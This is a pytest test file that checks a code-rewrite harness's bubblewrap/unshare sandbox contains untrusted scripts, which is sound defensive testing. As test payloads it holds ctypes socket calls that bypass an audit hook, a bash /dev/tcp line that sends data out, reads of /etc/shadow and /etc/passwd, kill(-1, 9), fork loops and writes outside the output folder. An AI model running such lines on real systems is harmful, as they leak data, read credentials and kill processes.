"""The operating-system sandbox of the rewrite harness, with both backends (bubblewrap and unshare): a run
returns its outputs, and code that does not pass the AST checks (the messy script is never checked, and
these payloads go through ctypes, past the audit hook) still cannot reach the network, outlive the run,
fork without limit, kill the harness, read files outside its view, or write or delete anything outside
its output folder. Each test proves the marker, connection, process or kill never happens."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from lester_dagster.rewrite.sandbox import (
    SANDBOX_ENV,
    Limits,
    SandboxUnavailable,
    _system_view,
    run_job,
    sandbox_backend,
)

TINY = Limits(timeout=20, memory_mb=512)
FIXTURES = Path(__file__).parent / "fixtures" / "rewrite"


def _available(backend: str) -> bool:
    previous = os.environ.get(SANDBOX_ENV)
    os.environ[SANDBOX_ENV] = backend
    try:
        sandbox_backend()
        return True
    except SandboxUnavailable:
        return False
    finally:
        if previous is None:
            os.environ.pop(SANDBOX_ENV, None)
        else:
            os.environ[SANDBOX_ENV] = previous


# Where a backend must work (CI runs as root with bubblewrap installed: LESTER_SANDBOX_REQUIRED=bwrap,unshare),
# its tests fail rather than skip, so a sandbox that stopped working cannot pass as skipped tests.
REQUIRED = {b.strip() for b in os.environ.get("LESTER_SANDBOX_REQUIRED", "").split(",") if b.strip()}
BACKENDS = [pytest.param(b, marks=pytest.mark.skipif(not _available(b) and b not in REQUIRED,
                                                     reason=f"{b} cannot build a sandbox here"))
            for b in ("bwrap", "unshare")]


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv(SANDBOX_ENV, request.param)
    return request.param


def messy(tmp_path: Path, body: str, limits: Limits = TINY, data: Path | None = None):
    """Runs a one-function 'messy script' whose preparation is `body` (with ctypes' libc as `libc`);
    encode and label are trivial."""
    code = tmp_path / "code"
    code.mkdir(exist_ok=True)
    (code / "script.py").write_text(
        "import ctypes, os, socket, subprocess, time\n\nlibc = ctypes.CDLL(None, use_errno=True)\n\n"
        f"def prepare():\n{body}\n\n"
        "def encode(rows):\n    return [[float(r['x'])] for r in rows]\n\n"
        "def labels(rows):\n    return [0 for r in rows]\n"
    )
    job = {"mode": "messy", "script": "/code/script.py", "arguments": {},
           "functions": {"prepare": "prepare", "encode": "encode", "label": "labels"}}
    return run_job(job, tmp_path / "run", limits, code=code, data=data)


def row(outcome) -> dict:
    assert outcome.ok, outcome.summary() + outcome.stderr_tail
    return outcome.prepared.iloc[0].to_dict()


def test_a_run_returns_the_prepared_rows_x_and_y(tmp_path: Path, backend: str) -> None:
    outcome = messy(tmp_path, "    return [{'x': 1, 'name': 'a'}, {'x': 2, 'name': 'b'}]")
    assert outcome.ok, outcome.summary()
    assert outcome.prepared.to_dict("list") == {"x": [1, 2], "name": ["a", "b"]}
    assert outcome.X.tolist() == [[1.0], [2.0]] and outcome.y.tolist() == [0, 0]


def test_a_run_that_takes_too_long_is_killed(tmp_path: Path, backend: str) -> None:
    # The timeout counts from the job's own code (not the sandbox's start and the runner's imports, which
    # a loaded machine can stretch past it): 5 s is far above the script's import, far below the sleep.
    outcome = messy(tmp_path, "    time.sleep(3600)", Limits(timeout=5.0, memory_mb=512))
    assert outcome.verdict == "timeout" and "still in prepare" in outcome.summary()
    assert "raise --timeout" in outcome.summary()
    assert outcome.seconds < 1800  # killed, not waited for


def test_a_sandbox_that_does_not_start_in_time_is_a_timeout_in_the_start(tmp_path: Path, backend: str) -> None:
    outcome = messy(tmp_path, "    return [{'x': 1}]", Limits(timeout=60, memory_mb=512, startup=0.0))
    assert outcome.verdict == "timeout" and outcome.error["stage"] == "start"
    assert "did not start the job within 0 s" in outcome.summary()


def test_memory_beyond_the_limit_is_an_error_not_a_dead_machine(tmp_path: Path, backend: str) -> None:
    outcome = messy(tmp_path, "    blob = bytearray(2 * 1024**3)\n    return [{'x': len(blob)}]",
                    Limits(timeout=20, memory_mb=256))
    assert outcome.verdict == "error" and outcome.error["type"] == "MemoryError"
    assert "limited to 256 MB" in outcome.error["message"] and "--memory-mb" in outcome.error["message"]
    assert outcome.error["stage"] == "prepare"


@pytest.mark.parametrize(
    ("body", "event"),
    [
        ("    socket.create_connection(('127.0.0.1', 9))", "socket"),
        ("    subprocess.run(['true'])", "subprocess.Popen"),
        ("    os.system('true')", "os.system"),
        ("    os.kill(os.getppid(), 9)", "os.kill"),
    ],
)
def test_network_processes_and_signals_are_refused_with_a_readable_error(tmp_path: Path, body: str, event: str,
                                                                         backend: str) -> None:
    outcome = messy(tmp_path, body)
    assert outcome.verdict == "error" and outcome.error["type"] == "PermissionError"
    assert f"sandbox: {event}" in outcome.error["message"]
    assert outcome.error["frames"][-1]["function"] == "prepare"


def test_the_environment_is_the_sandboxs_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, backend: str) -> None:
    monkeypatch.setenv("LESTER_LLM_API_KEY", "sk-secret")
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.internal:3128")
    found = row(messy(tmp_path, "    return [{'x': 1, 'env': ' '.join(sorted(os.environ)), 'cwd': os.getcwd(), "
                                "'uid': os.getuid(), 'root': ' '.join(sorted(os.listdir('/')))}]"))
    assert "LESTER_LLM_API_KEY" not in found["env"] and "HTTPS_PROXY" not in found["env"]
    assert found["cwd"] == "/tmp" and found["uid"] != 0  # no job folder name to recognise a verification by
    # only the sandbox's own folders and the tops of the read-only system view (the installation's path, which
    # on another machine can be /opt or /check as well as /usr or /work)
    system = {Path(mount.target).parts[1] for mount in _system_view()}
    assert set(found["root"].split()) <= {"code", "data", "dev", "job", "proc", "tmp", *system}
    assert not {"etc", "home", "var", "bin", "sbin"} & set(found["root"].split())


def test_a_crash_is_reported_with_how_it_ended(tmp_path: Path, backend: str) -> None:
    outcome = messy(tmp_path, "    os._exit(3)")
    assert outcome.verdict == "crashed" and "exit code 3" in outcome.summary()


@pytest.fixture
def listener() -> Iterator[tuple[int, list[object]]]:
    """A server on the host's loopback that records every connection it gets, in the order it gets them."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    accepted: list[object] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_the_network_is_unreachable_even_past_the_audit_hook(tmp_path: Path, listener: tuple[int, list[object]],
                                                            backend: str) -> None:
    port, accepted = listener
    body = f"""
    import struct
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM, straight through libc: no audit event
    address = struct.pack('<HH4s8x', 2, socket.htons({port}), bytes([127, 0, 0, 1]))
    connected = libc.connect(fd, address, len(address))
    errno = ctypes.get_errno()
    shell = libc.system(b"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'")
    interfaces = sorted(os.listdir('/sys/class/net')) if os.path.exists('/sys/class/net') else []
    return [{{'x': 1, 'connected': connected, 'errno': errno, 'shell': shell, 'interfaces': ' '.join(interfaces)}}]
"""
    found = row(messy(tmp_path, body))
    # refused (bubblewrap's namespace has its own loopback) or unreachable (unshare's has no interface up)
    assert found["connected"] == -1 and found["errno"] in (111, 101)
    assert found["shell"] != 0  # there is no shell to run /dev/tcp with
    # A connection of our own after the run: once the server has accepted it, it has accepted everything
    # the run could have sent before, however slowly its thread runs.
    with socket.create_connection(("127.0.0.1", port)) as ours:
        while not accepted:
            time.sleep(0.01)
        assert len(accepted) == 1 and accepted[0].getpeername() == ours.getsockname()


def test_a_detached_grandchild_dies_with_the_run(tmp_path: Path, backend: str) -> None:
    # The grandchild holds a lock on a file of the output folder for as long as it lives; the run returns
    # only once it holds it, so the lock being free again means the grandchild is gone.
    body = """
    import fcntl
    if libc.fork() == 0:
        libc.setsid()
        if libc.fork() == 0:  # the grandchild, in a session of its own: outlives its parent
            fcntl.flock(os.open('/job/out/alive', os.O_CREAT | os.O_WRONLY), fcntl.LOCK_EX)
            os.rename('/job/out/alive', '/job/out/grandchild-locked')
            while True:
                libc.pause()
        os._exit(0)
    while not os.path.exists('/job/out/grandchild-locked'):
        time.sleep(0.01)
    return [{'x': 1}]
"""
    outcome = messy(tmp_path, body)
    assert outcome.ok, outcome.summary()
    lock = os.open(tmp_path / "run" / "out" / "grandchild-locked", os.O_RDONLY)
    try:
        # the kernel ends the namespace's other processes asynchronously; a survivor would hold it for good
        deadline = time.monotonic() + 120
        while not _try_lock(lock):
            assert time.monotonic() < deadline, "the grandchild outlived the run"
            time.sleep(0.05)
    finally:
        os.close(lock)


def _try_lock(fd: int) -> bool:
    import fcntl

    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        return True
    except BlockingIOError:
        return False


def test_forks_stop_at_the_process_limit(tmp_path: Path, backend: str) -> None:
    body = """
    started = 0
    for _ in range(100):
        pid = libc.fork()
        if pid == 0:  # stays until the run ends, however slowly the loop forks
            while True:
                libc.pause()
        if pid < 0:
            break
        started += 1
    return [{'x': 1, 'started': started}]
"""
    found = row(messy(tmp_path, body, Limits(timeout=30, memory_mb=512, processes=12)))
    assert found["started"] < 12


def test_the_harness_and_other_processes_cannot_be_killed(tmp_path: Path, backend: str) -> None:
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    try:
        body = f"""
    return [{{'x': 1, 'parent': libc.kill(os.getppid(), 9), 'decoy': libc.kill({decoy.pid}, 9),
              'harness': libc.kill({os.getpid()}, 15), 'everyone': libc.kill(-1, 9)}}]
"""
        outcome = messy(tmp_path, body)
        assert outcome.verdict in ("ok", "crashed")  # kill(-1) may take the run itself, nothing else
    finally:
        decoy.terminate()
    # it lived until our own SIGTERM: a SIGKILL from the run would have ended it with -9
    assert decoy.wait() == -signal.SIGTERM


def test_files_outside_its_view_cannot_be_read(tmp_path: Path, backend: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the-secret-token")
    body = f"""
    found = []
    for path in ({str(secret)!r}, '/etc/shadow', '/etc/passwd', '/root/.bashrc', {str(Path.cwd() / 'README.md')!r}):
        try:
            found.append(open(path).read())
        except OSError as error:
            found.append(type(error).__name__)
    return [{{'x': 1, 'found': ' '.join(found)}}]
"""
    found = row(messy(tmp_path, body))
    assert "the-secret-token" not in found["found"]
    assert set(found["found"].split()) == {"FileNotFoundError"}


def test_nothing_outside_the_output_folder_can_be_written_or_deleted(tmp_path: Path, backend: str) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "orders.csv").write_text("order_id\n1\n")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    body = f"""
    import pandas as pd
    tries = []
    def attempt(what, action):
        try:
            action()
            tries.append(what + ':done')
        except Exception as error:
            tries.append(what + ':' + type(error).__name__)
    attempt('parquet', lambda: pd.DataFrame({{'a': [1]}}).to_parquet({str(tmp_path / 'marker.parquet')!r}))
    attempt('dir_fd', lambda: os.open('marker', os.O_CREAT | os.O_WRONLY, dir_fd=os.open('/', os.O_RDONLY)))
    attempt('unlink', lambda: os.unlink({str(victim)!r}))
    attempt('data', lambda: open('/data/orders.csv', 'a').write('2\\n'))
    attempt('code', lambda: open('/code/script.py', 'a').write('# changed'))
    attempt('package', lambda: open({str(Path(__file__).parents[1] / 'lester_dagster' / 'marker')!r}, 'w'))
    attempt('tmp', lambda: open('/tmp/scratch', 'w').write('fine'))
    return [{{'x': 1, 'tries': ' '.join(tries)}}]
"""
    found = row(messy(tmp_path, body, data=data))
    tries = dict(t.split(":") for t in found["tries"].split())
    assert tries.pop("tmp") == "done"  # its private /tmp
    assert "done" not in tries.values(), tries
    assert not (tmp_path / "marker.parquet").exists() and victim.read_text() == "keep me"
    assert (data / "orders.csv").read_text() == "order_id\n1\n"
    assert not (Path(__file__).parents[1] / "lester_dagster" / "marker").exists()


def test_candidates_cannot_write_outside_their_folder(tmp_path: Path) -> None:
    """The audit hook, the readable first line: a relative path or a directory descriptor counts as outside."""
    code = (
        "import os\nfrom pathlib import Path\n"
        "from lester_dagster.rewrite.runner import install_guard\n"
        f"install_guard(Path({str(tmp_path / 'job')!r}))\n"
        f"(Path({str(tmp_path / 'job')!r}) / 'ok.txt').write_text('fine')\n"
        "for attempt in (lambda: os.open('x', os.O_CREAT | os.O_WRONLY, dir_fd=os.open('/', os.O_RDONLY)),\n"
        "                lambda: os.unlink('x', dir_fd=os.open('/', os.O_RDONLY)),\n"
        f"                lambda: Path({str(tmp_path / 'elsewhere.txt')!r}).write_text('no')):\n"
        "    try:\n        attempt()\n    except PermissionError as error:\n        print(error)\n"
    )
    (tmp_path / "job").mkdir()
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert run.stdout.count("sandbox:") == 3, run.stdout + run.stderr
    assert (tmp_path / "job" / "ok.txt").exists() and not (tmp_path / "elsewhere.txt").exists()


def test_without_a_sandbox_tool_nothing_runs_and_the_error_says_what_to_install(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # neither bwrap nor unshare on the PATH
    monkeypatch.delenv(SANDBOX_ENV, raising=False)
    with pytest.raises(SandboxUnavailable, match="bubblewrap.*make sandbox-tools") as refused:
        messy(tmp_path, "    open('/tmp/never', 'w')\n    return [{'x': 1}]")
    assert "bwrap: not installed" in str(refused.value) and "unshare: not installed" in str(refused.value)
    assert not (tmp_path / "run").exists()


def test_a_timeout_kills_everything_the_run_started(tmp_path: Path, backend: str) -> None:
    body = """
    for _ in range(3):
        if libc.fork() == 0:
            while True:
                time.sleep(0.1)
    time.sleep(3600)
"""
    outcome = messy(tmp_path, body, Limits(timeout=5.0, memory_mb=512))
    assert outcome.verdict == "timeout"
    # every process of a sandboxed run has a user id of the sandbox's range; none is left (the kernel ends
    # them asynchronously, and the sandbox waits for that only so long: survivors would loop for good)
    deadline = time.monotonic() + 120
    while leftovers := [p for p in Path("/proc").iterdir() if p.name.isdigit() and _uid(p) >= 1_700_000_000]:
        assert time.monotonic() < deadline, leftovers
        time.sleep(0.1)


def _uid(process: Path) -> int:
    try:
        for line in (process / "status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        pass
    return -1


def test_an_installation_under_tmp_is_reachable_by_the_runs_own_user(tmp_path: Path) -> None:
    """The sandbox's /tmp is a tmpfs: a checkout or venv under the host's /tmp (CI, a throwaway venv) is bound
    into it, on folders the run's own user can walk through (bwrap made them 0700 when they came first)."""
    from lester_dagster.rewrite.sandbox import Mount, _command

    mounts = [Mount("tmpfs", "/tmp", size_mb=8), Mount("ro", "/tmp/checkout/.venv", str(tmp_path)),
              Mount("rw", "/job/out", str(tmp_path))]
    argv = _command("bwrap", mounts, ["python"], tmp_path, privileged=True, tool="bwrap")
    at = {(argv[i], argv[i + 1]): i for i in range(len(argv) - 1)}
    tmpfs, folder, bind = at[("--tmpfs", "/tmp")], at[("--dir", "/tmp/checkout")], at[("--ro-bind", str(tmp_path))]
    assert tmpfs < folder < bind and argv[folder - 1] == "0755"
    assert ("--dir", "/tmp") not in at  # the tmpfs keeps its own 1777
